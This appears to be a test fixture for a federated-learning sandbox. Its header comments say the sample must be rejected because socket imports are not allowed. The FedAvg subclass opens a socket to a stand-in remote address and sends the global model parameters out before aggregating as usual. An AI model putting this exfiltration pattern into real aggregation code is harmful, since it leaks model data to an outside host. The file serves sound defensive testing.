# ruff: noqa
# ATTACK: open a TCP socket and send the aggregated update to a remote host
# MUST: rejected:import-not-allowed
# WHY: socket is not an allowed import; unvalidated, the audit hook refuses sockets (and the child has no network)
# CATEGORY: imports
# SANDBOX: failed
import socket

from afr.recipe import FedAvg


class Exfil(FedAvg):
    name = "exfil"

    def aggregate(self, global_params, updates, server_state):
        conn = socket.create_connection(("203.0.113.7", 80), timeout=1)
        conn.sendall(str(sorted(global_params)).encode())
        conn.close()
        return super().aggregate(global_params, updates, server_state)
